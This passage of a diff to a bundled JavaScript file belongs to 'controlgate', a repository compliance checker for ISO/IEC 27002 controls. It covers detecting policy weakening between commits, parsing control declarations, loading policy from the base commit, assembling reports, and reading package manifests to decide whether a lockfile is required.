+/** The policy changes from `base` to `head`; `rules` gives each rule's built-in severity. */
+function policyChanges(base, head, rules) {
+    const out = [];
+    const add = (message, location, key) => out.push({ kind: 'changes', message: `Policy change: ${message}`, location, key });
+    declarationChanges(base, head, add);
+    configChanges(base, head, rules, add);
+    for (const [file, hash] of base.ruleFiles) {
+        const now = head.ruleFiles.get(file);
+        if (now === hash)
+            continue;
+        add(now === undefined ? `custom rule file ${file} is removed.` : `custom rule file ${file} is edited.`, now === undefined ? null : { path: file, startLine: 1 }, `rule-file:${file}:${now ?? 'removed'}`);
+    }
+    return out;
+}
+function declarationChanges(base, head, add) {
+    const b = base.declarations;
+    const h = head.declarations;
+    const file = h?.file ?? head.controlsFile;
+    const at = (pointer, onKey = false) => (h ? h.locate(pointer, onKey) : null);
+    if (base.controlsFile !== head.controlsFile) {
+        add(`the declarations file moves from ${base.controlsFile} to ${head.controlsFile}.`, at(''), `controls-file:${head.controlsFile}`);
+    }
+    if (b && !h) {
+        add(`the declarations file ${file} is removed.`, null, 'controls-removed');
+        return;
+    }
+    const ids = new Set([...(b?.controls.keys() ?? []), ...(h?.controls.keys() ?? [])]);
+    for (const id of [...ids].sort()) {
+        const was = b?.controls.get(id);
+        const now = h?.controls.get(id);
+        const from = was?.status ?? 'undeclared';
+        const to = now?.status ?? 'undeclared';
+        if (from !== to) {
+            add(`${id} changes from ${from} to ${to}${now?.justification ? ` ("${now.justification}")` : ''}.`, now ? at(`${now.pointer}/status`) : at('/controls', true), `status:${id}:${from}:${to}`);
+        }
+        else if (was?.status === 'planned' && now?.due && (!was.due || now.due > was.due)) {
+            add(`${id} is re-planned from ${was.due ?? 'no due date'} to ${now.due}.`, at(`${now.pointer}/due`), `due:${id}:${now.due}`);
+        }
+        const dropped = (was?.evidence ?? []).filter((e) => !now?.evidence.includes(e));
+        if (now && dropped.length > 0 && (now.status === 'implemented' || now.status === 'partial')) {
+            add(`${id} no longer cites ${dropped.join(', ')} as evidence.`, at(now.pointer, true), `evidence:${id}:${dropped.join(',')}`);
+        }
+    }
+    const before = new Map((b?.exceptions ?? []).map((e) => [e.id, e]));
+    for (const e of h?.exceptions ?? []) {
+        const where = at(e.pointer);
+        const old = before.get(e.id);
+        if (!old) {
+            add(`exception ${e.id} is added (${changes_describe(e)}).`, where, `exception-added:${e.id}`);
+            continue;
+        }
+        if (e.expires && (!old.expires || e.expires > old.expires)) {
+            add(`exception ${e.id} is extended from ${old.expires ?? 'no expiry'} to ${e.expires}.`, at(`${e.pointer}/expires`), `exception-extended:${e.id}:${e.expires}`);
+        }
+        const widened = widening(old, e);
+        if (widened.length > 0) {
+            add(`exception ${e.id} is widened: ${widened.join('; ')}.`, where, `exception-widened:${e.id}:${widened.join(';')}`);
+        }
+    }
+}
+function widening(old, now) {
+    const out = [];
+    const rules = now.rules.filter((r) => !old.rules.includes(r));
+    if (rules.length > 0)
+        out.push(`now also covers ${rules.join(', ')}`);
+    if (old.paths.length > 0 && now.paths.length === 0)
+        out.push('now covers every path');
+    else {
+        const paths = now.paths.filter((p) => !old.paths.includes(p));
+        if (paths.length > 0)
+            out.push(`now also covers ${paths.join(', ')}`);
+    }
+    if (old.control && !now.control)
+        out.push(`no longer limited to control ${old.control}`);
+    return out;
+}
+function changes_describe(e) {
+    const where = e.paths.length > 0 ? ` in ${e.paths.join(', ')}` : ' everywhere';
+    return `${e.rules.join(', ')}${where}, expires ${e.expires ?? 'never'}`;
+}
+function configChanges(base, head, rules, add) {
+    const b = base.config;
+    const h = head.config;
+    const doc = head.configDocument;
+    const file = h.file;
+    const at = (pointer) => {
+        const span = doc?.nearestSpan(pointer);
+        return file && span ? locationFromSpan(file, span, true) : file ? { path: file, startLine: 1 } : null;
+    };
+    const builtin = new Map(rules.map((r) => [r.id, r.severity]));
+    const ids = new Set([...Object.keys(b.rules), ...Object.keys(h.rules)]);
+    for (const id of [...ids].sort()) {
+        const was = b.rules[id] ?? {};
+        const now = h.rules[id] ?? {};
+        const where = at(`/rules/${escapePointerToken(id)}`);
+        if (now.enabled === false && was.enabled !== false) {
+            add(`rule ${id} is disabled.`, where, `rule-off:${id}`);
+            continue;
+        }
+        const def = builtin.get(id);
+        const sevWas = was.severity ?? def;
+        const sevNow = now.severity ?? def;
+        if (sevWas && sevNow && severityRank(sevNow) < severityRank(sevWas)) {
+            add(`rule ${id} is downgraded from ${sevWas} to ${sevNow}.`, where, `rule-down:${id}:${sevNow}`);
+        }
+        const excluded = (now.exclude ?? []).filter((g) => !(was.exclude ?? []).includes(g));
+        if (excluded.length > 0)
+            add(`rule ${id} no longer checks ${excluded.join(', ')}.`, where, `rule-exclude:${id}:${excluded.join(',')}`);
+    }
+    const failWas = b.failOn ?? 'high';
+    const failNow = h.failOn ?? 'high';
+    if (FAIL_ON_RANK[failNow] > FAIL_ON_RANK[failWas]) {
+        add(`fail-on is raised from ${failWas} to ${failNow}.`, at('/fail-on'), `fail-on:${failNow}`);
+    }
+    if ((b.failOnGap ?? true) && h.failOnGap === false)
+        add('fail-on-gap is turned off.', at('/fail-on-gap'), 'fail-on-gap');
+    if (b.requireDeclarations === 'technological' && h.requireDeclarations !== 'technological') {
+        add('require-declarations is lowered to none.', at('/require-declarations'), 'require-declarations');
+    }
+    if ((h.exceptionMaxDays ?? 365) > (b.exceptionMaxDays ?? 365)) {
+        add(`exception-max-days is raised to ${h.exceptionMaxDays}.`, at('/exception-max-days'), `max-days:${h.exceptionMaxDays}`);
+    }
+    const excluded = h.exclude.filter((g) => !b.exclude.includes(g));
+    if (excluded.length > 0)
+        add(`the check no longer covers ${excluded.join(', ')}.`, at('/exclude'), `exclude:${excluded.join(',')}`);
+    if (h.include.join('\0') !== b.include.join('\0') && h.include.length > 0) {
+        add(`the check is limited to ${h.include.join(', ')}.`, at('/include'), `include:${h.include.join(',')}`);
+    }
+    if (h.ruleDirs.join('\0') !== b.ruleDirs.join('\0')) {
+        add(`custom rule directories change to ${h.ruleDirs.join(', ') || 'none'}.`, at('/rule-dirs'), `rule-dirs:${h.ruleDirs.join(',')}`);
+    }
+}
+
+;// CONCATENATED MODULE: external "node:crypto"
+const external_node_crypto_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:crypto");
+;// CONCATENATED MODULE: ./lib/core/declarations/model.js
+/** Default location of the declarations file, relative to the repository root. */
+const DEFAULT_CONTROLS_FILE = '.github/controls.yml';
+
+;// CONCATENATED MODULE: ./lib/core/declarations/parse.js
+
+
+
+
+const ID_2022 = /^8\.([1-9]|[12][0-9]|3[0-4])$/;
+const ID_2013 = /^A\.([5-9]|1[0-8])\.[0-9]{1,2}\.[0-9]{1,2}$/;
+/** Claims least first: when several 2013 ids translate to one control, the weakest claim wins. */
+const CLAIM_RANK = {
+    planned: 0,
+    partial: 1,
+    implemented: 2,
+    'not-applicable': 3,
+};
+/**
+ * Parses and validates a declarations file. Never throws: a YAML error makes the whole file
+ * unreadable; a schema error is a located problem that invalidates only the entry it is in (a control
+ * becomes unverifiable, an exception is not applied); ISO/IEC 27001:2013 ids are translated with a
+ * notice.
+ */
+function parseDeclarations(text, file) {
+    const out = {
+        file,
+        unreadable: null,
+        meta: { scope: null, owner: null, approvedBy: null, reviewed: null },
+        controls: new Map(),
+        invalid: new Map(),
+        exceptions: [],
+        problems: [],
+        notices: [],
+        locate: (_pointer) => ({ path: file, startLine: 1 }),
+    };
+    const problem = (message, location, key) => out.problems.push({ kind: 'declarations-file', message: `${file}: ${message}`, location, key });
+    const parsed = parseYaml(text);
+    if (!parsed.ok) {
+        const { line, column, message } = parsed.error;
+        out.unreadable = `not valid YAML at line ${line}: ${message}`;
+        problem(`not valid YAML: ${message}`, { path: file, startLine: line, startColumn: column }, 'yaml');
+        return out;
+    }
+    const doc = parsed.documents[0];
+    if (!doc || parsed.documents.length !== 1) {
+        out.unreadable = 'a declarations file holds exactly one YAML document';
+        problem(out.unreadable, { path: file, startLine: 1 }, 'documents');
+        return out;
+    }
+    out.document = doc;
+    out.locate = documentLocator(doc, file);
+    const at = out.locate;
+    const value = (doc.value ?? {});
+    // Keys are checked by hand first: the schema's pattern error would not say what to do instead.
+    const checked = structuredClone(value);
+    const controlsValue = isObject(value.controls) ? value.controls : undefined;
+    const usableKeys = [];
+    if (controlsValue) {
+        const valueKeys = new Set(Object.keys(controlsValue));
+        const clean = {};
+        for (const key of doc.sourceKeys('/controls')) {
+            const where = at(`/controls/${escapePointerToken(key)}`, true);
+            if (!valueKeys.has(key)) {
+                problem(`control id ${key} must be quoted ("${key}"): YAML reads it as the number ${Number(key)}`, where, `quote:${key}`);
+                out.invalid.set(key, `its id must be quoted in ${file}`);
+            }
+            else if (!ID_2022.test(key) && !ID_2013.test(key)) {
+                const hint = getControl(key) ? '' : ' (use 8.1-8.34, or an ISO/IEC 27001:2013 id such as A.9.2.3)';
+                problem(`unknown control id "${key}"${hint}`, where, `unknown:${key}`);
+            }
+            else {
+                clean[key] = controlsValue[key];
+                usableKeys.push(key);
+            }
+        }
+        checked.controls = clean;
+    }
+    const entryProblems = new Map();
+    for (const p of validate(schemaValidator('controls.schema.json'), checked, doc)) {
+        const location = p.line !== undefined
+            ? { path: file, startLine: p.line, ...(p.column ? { startColumn: p.column } : {}) }
+            : { path: file, startLine: 1 };
+        problem(`${p.pointer}: ${p.message}`, location, `schema:${p.pointer}:${p.message}`);
+        const entry = /^\/(controls\/[^/]+|exceptions\/\d+)/.exec(p.pointer)?.[1];
+        if (entry && !entryProblems.has(entry))
+            entryProblems.set(entry, `${p.pointer}: ${p.message}`);
+    }
+    out.meta = {
+        scope: str(value.scope),
+        owner: str(value.owner),
+        approvedBy: str(value['approved-by']),
+        reviewed: str(value.reviewed),
+    };
+    if (controlsValue)
+        readControls(out, controlsValue, usableKeys, entryProblems, at);
+    if (Array.isArray(value.exceptions))
+        readExceptions(out, value.exceptions, entryProblems, at, problem);
+    return out;
+}
+function readControls(out, controls, keys, entryProblems, at) {
+    const direct = keys.filter((k) => ID_2022.test(k));
+    const old = keys.filter((k) => ID_2013.test(k));
+    for (const key of direct) {
+        const pointer = `/controls/${key}`;
+        const bad = entryProblems.get(pointer.slice(1));
+        if (bad) {
+            out.invalid.set(key, `its declaration is invalid (${bad})`);
+            continue;
+        }
+        out.controls.set(key, declared(key, controls[key], pointer, at(pointer, true), null));
+    }
+    const translated = new Map();
+    for (const key of old) {
+        const pointer = `/controls/${key}`;
+        const targets = controlsFrom2013(key);
+        const where = at(pointer, true);
+        const line = `${where.path}:${where.startLine}`;
+        if (targets.length === 0) {
+            out.notices.push(`${line}: ${key} (ISO/IEC 27001:2013) has no technological successor in ISO/IEC 27002:2022 (it became an organisational, people or physical control); controlgate does not verify it`);
+            continue;
+        }
+        const ids = targets.map((c) => c.id);
+        const bad = entryProblems.get(pointer.slice(1));
+        for (const id of ids) {
+            if (out.controls.has(id) || out.invalid.has(id)) {
+                out.notices.push(`${line}: ${key} (ISO/IEC 27001:2013) is ${id}, which is declared directly; the direct declaration is used`);
+                continue;
+            }
+            if (bad) {
+                out.invalid.set(id, `its declaration (as ${key}) is invalid (${bad})`);
+                continue;
+            }
+            const list = translated.get(id) ?? [];
+            list.push(declared(id, controls[key], pointer, where, key));
+            translated.set(id, list);
+        }
+        if (!bad) {
+            out.notices.push(ids.length === 1
+                ? `${line}: ${key} (ISO/IEC 27001:2013) is declared as ${ids[0]} (ISO/IEC 27002:2022); consider writing "${ids[0]}"`
+                : `${line}: ${key} (ISO/IEC 27001:2013) maps to ${ids.join(', ')}; the declaration applies to each`);
+        }
+    }
+    for (const [id, list] of translated) {
+        if (list.length === 1) {
+            out.controls.set(id, list[0]);
+            continue;
+        }
+        // Several old controls merged into one new one: the weakest claim is the one that can be verified.
+        const statuses = new Set(list.map((d) => d.status));
+        const status = statuses.size === 1
+            ? list[0].status
+            : [...statuses]
+                .filter((s) => s !== 'not-applicable')
+                .sort((a, b) => CLAIM_RANK[a] - CLAIM_RANK[b])[0];
+        const first = list.find((d) => d.status === status) ?? list[0];
+        out.controls.set(id, {
+            ...first,
+            status,
+            evidence: [...new Set(list.flatMap((d) => d.evidence))],
+            from2013: list.map((d) => d.from2013).join(', '),
+        });
+        if (statuses.size > 1) {
+            const from = list.map((d) => `${d.from2013} ${d.status}`).join(', ');
+            out.notices.push(`${first.location?.path}: ${id} is declared through several ISO/IEC 27001:2013 ids with different statuses (${from}); controlgate uses "${status}". Declare "${id}" directly to decide`);
+        }
+    }
+}
+function declared(id, raw, pointer, location, from2013) {
+    return {
+        id,
+        status: raw.status,
+        justification: raw.justification ?? null,
+        owner: raw.owner ?? null,
+        due: raw.due ?? null,
+        location,
+        from2013,
+        evidence: [...(raw.evidence ?? [])],
+        pointer,
+    };
+}
+function readExceptions(out, list, entryProblems, at, problem) {
+    const seen = new Map();
+    list.forEach((item, i) => {
+        const pointer = `/exceptions/${i}`;
+        if (entryProblems.has(pointer.slice(1)) || !isObject(item))
+            return;
+        const raw = item;
+        const location = at(pointer);
+        const previous = seen.get(raw.id);
+        if (previous !== undefined) {
+            problem(`exception id "${raw.id}" is also used by exception ${previous + 1}; ids must be unique`, at(`${pointer}/id`), `duplicate:${raw.id}`);
+            return;
+        }
+        seen.set(raw.id, i);
+        out.exceptions.push({
+            id: raw.id,
+            rules: [...raw.rules],
+            paths: [...(raw.paths ?? [])],
+            control: raw.control ?? null,
+            reason: blankToNull(raw.reason),
+            approvedBy: blankToNull(raw['approved-by']),
+            expires: raw.expires ?? null,
+            pointer,
+            location: { path: location.path, startLine: location.startLine },
+        });
+    });
+}
+/** A {@link Locator} for a parsed declarations document. */
+function documentLocator(doc, file) {
+    return (pointer, onKey = false) => {
+        const span = doc.nearestSpan(pointer);
+        return span ? locationFromSpan(file, span, onKey) : { path: file, startLine: 1 };
+    };
+}
+function isObject(v) {
+    return typeof v === 'object' && v !== null && !Array.isArray(v);
+}
+function str(v) {
+    return typeof v === 'string' ? v : null;
+}
+function blankToNull(v) {
+    return v && v.trim() !== '' ? v : null;
+}
+
+;// CONCATENATED MODULE: ./lib/core/policy/load.js
+/**
+ * Loads the policy of a run: `.controlgate.yml`, the declarations (with their exceptions) and the
+ * custom rule directories. With a base commit they are read from it, through git objects, so the
+ * change under review cannot weaken the policy it is judged by; the head's copy is read too, to
+ * report what the change would alter. Without a readable base commit the head's copy is used, with
+ * a warning that says why and how to fix it.
+ */
+
+
+
+
+
+
+
+
+
+
+/** Declarations files larger than this are refused (34 controls and their exceptions are a few KiB). */
+const MAX_DECLARATIONS_BYTES = 512 * 1024;
+/** Loads the policy in force and, with a base commit, the head's version beside it. */
+function loadPolicy(options) {
+    const headTree = fsTree(options.root);
+    const head = snapshot(headTree, options, true);
+    if (!options.base)
+        return { source: 'head', base: null, active: head, head, warnings: [] };
+    const repo = GitRepository.open(options.root);
+    const commit = repo?.resolveCommit(options.base);
+    let tree = repo && commit ? gitTree(repo, commit) : undefined;
+    let why = !repo ? 'the directory is not in a git repository' : 'the commit is not in the local repository';
+    if (!tree && options.baseTree) {
+        tree = options.baseTree(options.base);
+        if (!tree)
+            why += ', and the fallback reader could not read it either';
+    }
+    if (!tree) {
+        const warning = `The policy could not be read from the base commit ${options.base} (${why}), so it is read from the change under review, which can modify it. Fetch the base commit (actions/checkout with fetch-depth: 0) so a pull request cannot weaken its own policy.`;
+        options.logger.warning(warning);
+        return { source: 'head', base: null, active: head, head, warnings: [warning] };
+    }
+    const active = snapshot(tree, options, false);
+    if (active.declarations && head.declarations?.document) {
+        relocate(active.declarations, head.declarations);
+    }
+    options.logger.info(`policy read from ${tree.label}`);
+    return { source: 'base', base: commit ?? options.base, active, head, warnings: [] };
+}
+function snapshot(tree, options, isHead) {
+    const { root } = options;
+    const configPath = options.configPath;
+    const outside = configPath !== undefined && external_node_path_namespaceObject.isAbsolute(configPath);
+    const config = outside
+        ? readConfig(fsTree(external_node_path_namespaceObject.dirname(configPath)), external_node_path_namespaceObject.basename(configPath), {
+            required: true,
+            display: configPath,
+        })
+        : readConfig(tree, configPath, { required: isHead });
+    let configDocument;
+    if (config.file && !outside) {
+        const file = tree.read(config.file);
+        const parsed = file.kind === 'text' ? parseYaml(file.text) : undefined;
+        if (parsed?.ok)
+            configDocument = parsed.documents[0];
+    }
+    const controlsFile = (options.controlsPath ?? config.controls ?? DEFAULT_CONTROLS_FILE).replace(/^\.\//, '');
+    const declarations = readDeclarations(tree, root, controlsFile);
+    const ruleDirs = [];
+    const inRepo = [];
+    for (const d of [
+        ...config.ruleDirs.map((x) => external_node_path_namespaceObject.resolve(root, x)),
+        ...(options.ruleDirs ?? []).map((x) => external_node_path_namespaceObject.resolve(x)),
+    ]) {
+        const rel = external_node_path_namespaceObject.relative(root, d).split(external_node_path_namespaceObject.sep).join('/');
+        const inside = rel !== '' && !rel.startsWith('..') && !external_node_path_namespaceObject.isAbsolute(rel);
+        if (inside)
+            inRepo.push(rel);
+        ruleDirs.push(inside && !isHead ? { dir: rel, tree } : d);
+    }
+    const ruleFiles = new Map();
+    for (const dir of inRepo) {
+        for (const f of tree.list(dir)) {
+            if (!/\.ya?ml$/.test(f))
+                continue;
+            const file = tree.read(f);
+            if (file.kind === 'text')
+                ruleFiles.set(f, (0,external_node_crypto_namespaceObject.createHash)('sha256').update(file.text).digest('hex'));
+        }
+    }
+    const out = { tree, config, controlsFile, declarations, ruleDirs, ruleFiles };
+    if (configDocument)
+        out.configDocument = configDocument;
+    return out;
+}
+function readDeclarations(tree, root, file) {
+    if (external_node_path_namespaceObject.isAbsolute(file)) {
+        // A declarations file outside the tree is the caller's (a shared SoA): read where it is.
+        let text;
+        try {
+            if ((0,external_node_fs_namespaceObject.statSync)(file).size > MAX_DECLARATIONS_BYTES)
+                throw new UsageError(`declarations file is larger than ${MAX_DECLARATIONS_BYTES} bytes: ${file}`);
+            text = (0,external_node_fs_namespaceObject.readFileSync)(file, 'utf8');
+        }
+        catch (err) {
+            if (err instanceof UsageError)
+                throw err;
+            throw new UsageError(`declarations file not found: ${file}`);
+        }
+        return parseDeclarations(text, external_node_path_namespaceObject.relative(root, file).split(external_node_path_namespaceObject.sep).join('/'));
+    }
+    const read = tree.read(file, MAX_DECLARATIONS_BYTES);
+    if (read.kind === 'missing')
+        return null;
+    if (read.kind === 'text')
+        return parseDeclarations(read.text, file);
+    const why = read.kind === 'too-large'
+        ? `it is larger than ${MAX_DECLARATIONS_BYTES} bytes`
+        : 'it is not a regular file';
+    const unreadable = parseDeclarations('version: 1\n', file);
+    unreadable.unreadable = why;
+    unreadable.problems.push({
+        kind: 'declarations-file',
+        message: `${file}: cannot be read: ${why}`,
+        location: { path: file, startLine: 1 },
+        key: 'unreadable',
+    });
+    return unreadable;
+}
+/**
+ * Points the base declarations' locations into the head's file: the pull request shows the head's
+ * lines, and a finding on a base line number would land on the wrong line.
+ */
+function relocate(base, head) {
+    const locate = documentLocator(head.document, head.file);
+    base.locate = locate;
+    for (const c of base.controls.values())
+        c.location = locate(c.pointer, true);
+    // Exceptions are matched by id: the head may have inserted or reordered them.
+    const headPointers = new Map(head.exceptions.map((e) => [e.id, e.pointer]));
+    for (const e of base.exceptions) {
+        e.pointer = headPointers.get(e.id) ?? '/exceptions';
+        const at = locate(e.pointer);
+        e.location = { path: at.path, startLine: at.startLine };
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/core/version.js
+/** controlgate's version; kept equal to package.json by a test. */
+const VERSION = '0.1.0';
+
+;// CONCATENATED MODULE: ./lib/core/report.js
+
+
+/** Assembles the one immutable Report that every reporter and sink reads. */
+function buildReport(input) {
+    const bySeverity = Object.fromEntries(SEVERITIES.map((s) => [s, 0]));
+    const byStatus = { open: 0, excepted: 0, ignored: 0 };
+    for (const f of input.findings) {
+        bySeverity[f.severity] += 1;
+        byStatus[f.status] += 1;
+    }
+    const byVerdict = Object.fromEntries(VERDICTS.map((v) => [v, 0]));
+    for (const c of input.controls)
+        byVerdict[c.verdict] += 1;
+    const report = {
+        version: 1,
+        tool: {
+            name: 'controlgate',
+            version: VERSION,
+            informationUri: 'https://github.com/controlgate/controlgate',
+        },
+        repository: { root: input.root, head: input.head, base: input.base },
+        settings: {
+            failOn: input.failOn,
+            failOnGap: input.failOnGap,
+            requireDeclarations: input.requireDeclarations,
+            exceptionMaxDays: input.exceptionMaxDays,
+            config: input.config.file,
+            controls: input.controlsFile,
+            ruleDirs: input.ruleDirs,
+            include: input.config.include,
+            exclude: input.config.exclude,
+        },
+        policy: input.policy,
+        rules: input.rules,
+        controls: input.controls,
+        findings: input.findings,
+        errors: input.errors,
+        summary: {
+            files: input.files,
+            rules: input.rules.filter((r) => r.result !== 'disabled' && r.result !== 'not-applicable').length,
+            findings: input.findings.length,
+            open: byStatus.open,
+            blocking: input.findings.filter((f) => f.blocking).length,
+            bySeverity,
+            byStatus,
+            byVerdict,
+            errors: input.errors.length,
+            gate: input.gate,
+        },
+    };
+    return deepFreeze(report);
+}
+function deepFreeze(value) {
+    if (value && typeof value === 'object' && !Object.isFrozen(value)) {
+        Object.freeze(value);
+        for (const v of Object.values(value))
+            deepFreeze(v);
+    }
+    return value;
 }
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/core/input-problems.js
@@ -23266,29 +32712,705 @@ const inputProblems = defineEvaluator({
     },
 });
 
-;// CONCATENATED MODULE: ./lib/core/location.js
-/** A location for the source range [start, end) of a file's text. */
-function locationFromOffsets(path, lines, start, end) {
-    const s = lines.position(start);
-    const e = lines.position(Math.max(start, end - 1));
-    return { path, startLine: s.line, startColumn: s.column, endLine: e.line, endColumn: e.column };
-}
-/** A location for a YAML node; `onKey` points at the mapping key instead of the value. */
-function locationFromSpan(path, span, onKey = false) {
-    if (onKey && span.key) {
-        return { path, startLine: span.key.line, startColumn: span.key.column, endLine: span.key.line };
-    }
+;// CONCATENATED MODULE: external "node:path/posix"
+const posix_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path/posix");
+;// CONCATENATED MODULE: ./lib/core/evaluators/generic/shared.js
+
+/**
+ * Content patterns see at most this many characters of a line: a bound on the work one regular
+ * expression can do on one line of an attacker-controlled file (minified bundles, crafted input).
+ */
+const MAX_LINE_CHARS = 20_000;
+/** Flags a content pattern may use; `g`/`y` are excluded because the evaluators drive the scanning. */
+const ALLOWED_FLAGS = 'imsu';
+/** JSON Schema of a non-empty list of globs. */
+function globList(description, extra = {}) {
     return {
-        path,
-        startLine: span.start.line,
-        startColumn: span.start.column,
-        endLine: span.end.line,
-        endColumn: span.end.column,
+        type: 'array',
+        items: { type: 'string', minLength: 1 },
+        description,
+        ...extra,
     };
 }
-/** A whole-file location (line 1), for findings about a file rather than a line in it. */
-function fileLocation(path) {
-    return { path, startLine: 1 };
+/** JSON Schema of a regular expression source (JavaScript syntax). */
+function regexSource(description) {
+    return { type: 'string', minLength: 1, format: 'regex', description };
+}
+/** JSON Schema of the `flags` of a pattern. */
+const FLAGS_SCHEMA = {
+    type: 'string',
+    pattern: `^[${ALLOWED_FLAGS}]*$`,
+    default: '',
+    description: 'JavaScript regular-expression flags: any of "i" (ignore case), "u" (Unicode), "s" and "m" (rarely ' +
+        'useful, since patterns see one line at a time).',
+};
+/** JSON Schema of the shared `ignoreCase` option of path-selecting kinds. */
+const IGNORE_CASE_SCHEMA = {
+    type: 'boolean',
+    default: false,
+    description: 'Match `paths` and `except` without regard to case (e.g. SECURITY.md and security.md).',
+};
+/**
+ * Compiles a pattern once per evaluation. Patterns are matched against single lines, so the flags that
+ * change scanning (`g`, `y`) are never added. Throws an error naming the pattern when it is invalid
+ * (the options schema catches most syntax errors at load time; a flag combination can still fail).
+ */
+function compilePattern(source, flags = '') {
+    const unique = [...new Set(flags)].filter((f) => ALLOWED_FLAGS.includes(f)).join('');
+    try {
+        return new RegExp(source, unique);
+    }
+    catch (err) {
+        throw new Error(`invalid pattern /${source}/${unique}: ${err instanceof Error ? err.message : String(err)}`);
+    }
+}
+/** `/source/flags`, the way patterns are shown in messages. */
+function showPattern(re) {
+    return `/${re.source}/${re.flags}`;
+}
+/**
+ * Calls `visit` for each line of `text` (1-based numbers, without the line terminator, truncated to
+ * {@link MAX_LINE_CHARS}). Returning `false` stops the walk. A trailing newline does not add a line.
+ */
+function forEachLine(text, visit) {
+    let start = 0;
+    let lineNo = 1;
+    while (start < text.length) {
+        let end = text.indexOf('\n', start);
+        if (end === -1)
+            end = text.length;
+        let stop = end;
+        if (stop > start && text.charCodeAt(stop - 1) === 13)
+            stop -= 1;
+        const line = text.slice(start, Math.min(stop, start + MAX_LINE_CHARS));
+        if (visit(line, lineNo) === false)
+            return;
+        start = end + 1;
+        lineNo += 1;
+    }
+}
+/** The first line of `text` that matches `re`, as `{ lineNo, match }`, or undefined. */
+function firstMatchingLine(text, re) {
+    let found;
+    forEachLine(text, (line, lineNo) => {
+        const match = re.exec(line);
+        if (!match)
+            return true;
+        found = { lineNo, match };
+        return false;
+    });
+    return found;
+}
+/**
+ * Files matching any of `paths` and none of `except`, in index order. Case-insensitive selection
+ * compiles its own matchers; the case-sensitive path reuses the workspace's cached ones.
+ */
+function selectFiles(workspace, selection) {
+    const except = selection.except ?? [];
+    if (selection.ignoreCase) {
+        const include = picomatch(selection.paths, { dot: true, nocase: true });
+        const exclude = except.length > 0 ? picomatch(except, { dot: true, nocase: true }) : undefined;
+        return workspace.files.filter((f) => include(f) && !exclude?.(f));
+    }
+    const files = workspace.glob(selection.paths);
+    if (except.length === 0)
+        return files;
+    const exclude = workspace.matcher(except);
+    return files.filter((f) => !exclude(f));
+}
+/** A single glob matcher honouring `ignoreCase`. */
+function globMatcher(workspace, glob, ignoreCase = false) {
+    return ignoreCase ? picomatch(glob, { dot: true, nocase: true }) : workspace.matcher([glob]);
+}
+/** Collapses whitespace and caps length, so a finding key is stable and small. */
+function keyText(text, max = 200) {
+    const collapsed = text.trim().replace(/\s+/g, ' ');
+    return collapsed.length > max ? collapsed.slice(0, max) : collapsed;
+}
+/** "a, b or c" for messages. */
+function orList(items) {
+    if (items.length <= 1)
+        return items.join('');
+    return `${items.slice(0, -1).join(', ')} or ${items[items.length - 1]}`;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/repo/manifests.js
+/**
+ * Small, dependency-free readers of package manifests: just enough to tell whether a manifest
+ * declares dependencies (and so needs a lockfile). TOML and go.mod are inspected by table headers
+ * and directives rather than parsed in full; every pattern here is anchored and linear.
+ */
+/** A JSON object from the workspace (cached), or undefined when absent, not an object or unparsable. */
+function readJson(ws, file) {
+    if (!ws.has(file))
+        return undefined;
+    return ws.memo('deps.json', file, () => {
+        const text = ws.text(file);
+        if (text === undefined)
+            return undefined;
+        let value;
+        try {
+            value = JSON.parse(text);
+        }
+        catch {
+            // The YAML parser accepts JSON and, unlike JSON.parse, reports where it breaks: the workspace
+            // records that located problem for core.input-problems.
+            const parsed = ws.yaml(file);
+            value = parsed?.ok ? parsed.documents[0]?.value : undefined;
+        }
+        return manifests_isObject(value) ? value : undefined;
+    });
+}
+function manifests_isObject(value) {
+    return typeof value === 'object' && value !== null && !Array.isArray(value);
+}
+const NPM_DEPENDENCY_FIELDS = ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies'];
+/** A package.json needs a lockfile when it declares dependencies of any kind. */
+function packageJsonNeedsLock(pkg) {
+    if (!pkg)
+        return false;
+    return NPM_DEPENDENCY_FIELDS.some((field) => {
+        const deps = pkg[field];
+        return manifests_isObject(deps) && Object.keys(deps).length > 0;
+    });
+}
+/**
+ * A composer.json needs composer.lock when it requires a package; platform requirements (`php`,
+ * `ext-*`, `lib-*`, `composer-*`) are checked, not installed, and have no `vendor/` prefix.
+ */
+function composerNeedsLock(manifest) {
+    if (!manifest)
+        return false;
+    return ['require', 'require-dev'].some((field) => {
+        const deps = manifest[field];
+        return manifests_isObject(deps) && Object.keys(deps).some((name) => name.includes('/'));
+    });
+}
+/**
+ * The Python tool whose lockfile a pyproject.toml implies: Poetry (`[tool.poetry...]`), uv
+ * (`[tool.uv...]`) or PDM as a dependency manager (`[tool.pdm]`, `[tool.pdm.dev-dependencies]`; the
+ * pdm-backend build tables alone do not imply a lock). Plain `[project]` metadata implies none:
+ * libraries built with setuptools or hatch conventionally ship without one.
+ */
+function pyprojectTool(text) {
+    const headers = tomlTableHeaders(text);
+    if (headers.some((h) => h === 'tool.poetry' || h.startsWith('tool.poetry.')))
+        return 'poetry';
+    if (headers.some((h) => h === 'tool.uv' || h.startsWith('tool.uv.')))
+        return 'uv';
+    if (headers.some((h) => h === 'tool.pdm' || h === 'tool.pdm.dev-dependencies' || h === 'tool.pdm.resolution')) {
+        return 'pdm';
+    }
+    return undefined;
+}
+/**
+ * A Cargo.toml needs Cargo.lock when it declares dependencies: `[dependencies]`, `[dev-dependencies]`,
+ * `[build-dependencies]`, their `target.<cfg>.` forms, `[dependencies.<name>]` tables and
+ * `[workspace.dependencies]`. A virtual workspace root without shared dependencies needs none itself;
+ * its members point at the lockfile in it.
+ */
+function cargoNeedsLock(text) {
+    return tomlTableHeaders(text).some((h) => {
+        const parts = h.split('.');
+        // `target.'cfg(unix)'.dependencies` may contain dots inside the quoted cfg; only the tail matters.
+        return parts.some((p, i) => /^(?:dev-|build-)?dependencies$/.test(p) && (i === 0 || isDepsPrefix(parts, i)));
+    });
+}
+function isDepsPrefix(parts, i) {
+    return parts[0] === 'workspace' ? i === 1 : parts[0] === 'target';
+}
+/** A go.mod needs go.sum when it has a `require` directive (a module using only the standard library has none). */
+function goModNeedsSum(text) {
+    return /^[ \t]*require(?:[ \t(]|$)/m.test(text);
+}
+/** Table and array-of-table header names of a TOML document (`[a.b]`, `[[a.b]]`), whitespace removed. */
+function tomlTableHeaders(text) {
+    const out = [];
